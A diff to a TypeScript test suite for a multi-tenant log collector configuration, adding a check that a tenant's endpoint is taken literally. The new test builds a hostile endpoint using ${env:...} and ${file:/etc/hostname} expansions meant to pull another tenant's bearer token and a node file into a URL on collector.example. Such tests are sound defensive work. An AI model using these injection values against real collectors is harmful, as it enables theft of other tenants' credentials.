@@ -167,18 +167,20 @@ describe('log agent config: the real collector', () => {
   const sandbox = new Sandbox();
   afterAll(() => sandbox.remove());
 
-  /** `otelcol-webstack validate` on the config, its paths moved into the sandbox, its environment set. */
-  function validate(text: string): { status: number | null; output: string } {
+  /** The collector `command` on the config, its paths moved into the sandbox, every stack's credentials in its environment. */
+  function collectorOn(command: string[], text: string, stacks: readonly DefaultedWebStack[] = MANY): { status: number | null; output: string } {
     sandbox.dir(LOG_AGENT.hostRoot);
     sandbox.dir(LOG_AGENT.storageDir);
     const file = sandbox.write('config.yaml', sandbox.relocate(text, [LOG_AGENT.hostRoot, LOG_AGENT.storageDir]));
     const env = { PATH: process.env.PATH, [LOG_AGENT.env.nodeName]: 'node-1' };
-    for (const s of MANY) {
+    for (const s of stacks) {
       const vars = agentEnv(agentRoute(s));
-      Object.assign(env, { [vars.sinkAuthorization]: 'Bearer test', [vars.sinkEndpoint]: 'https://sink.example/receiver/v1/http/abc' });
+      Object.assign(env, { [vars.sinkAuthorization]: `Bearer token-of-${s.metadata.name}`, [vars.sinkEndpoint]: 'https://sink.example/receiver/v1/http/abc' });
     }
-    return run(collector(), ['validate', `--config=${file}`], { env });
+    return run(collector(), [...command, `--config=${file}`], { env });
   }
+
+  const validate = (text: string) => collectorOn(['validate'], text);
 
   const built = MANY.filter((s) => BUILT_SINKS.includes(s.spec.logging.sink.type));
 
@@ -193,6 +195,20 @@ describe('log agent config: the real collector', () => {
       const result = validate(render([stack('shop', 'one', type, type === 'stdout' ? { secret } : { endpoint: 'http://sink:4318', secret })]).text);
       expect({ type, secret, ...result }).toEqual({ type, secret, status: 0, output: '' });
     }
+  });
+
+  it("takes a tenant's endpoint literally: no expansion reaches another tenant's credentials or a node file", () => {
+    const victim = stack('shop', 'victim', 'otlp', { endpoint: 'http://receiver.observability:4318', secret: true });
+    const stolen = agentEnv(agentRoute(victim)).sinkAuthorization;
+    const hostile = `https://collector.example/\${env:${stolen}}/\${file:/etc/hostname}/$HOME`;
+    const attacker = stack('evil', 'attacker', 'otlp', { endpoint: hostile });
+    const result = collectorOn(['print-config', '--mode=unredacted', '--format=json'], render([victim, attacker]).text, [victim, attacker]);
+    expect(result.status).toBe(0);
+    const printed = JSON.parse(result.output.slice(result.output.indexOf('{'))) as CollectorConfig;
+    expect(printed.exporters[ids(attacker).exporter]?.endpoint).toBe(hostile);
+    expect(JSON.stringify(printed.exporters[ids(attacker).exporter])).not.toContain('token-of-victim');
+    // The victim's own reference still resolves: its exporter gets its token.
+    expect(JSON.stringify(printed.exporters[ids(victim).exporter]?.headers)).toContain('Bearer token-of-victim');
   });
 
   it('refuses a broken config, naming the component', () => {
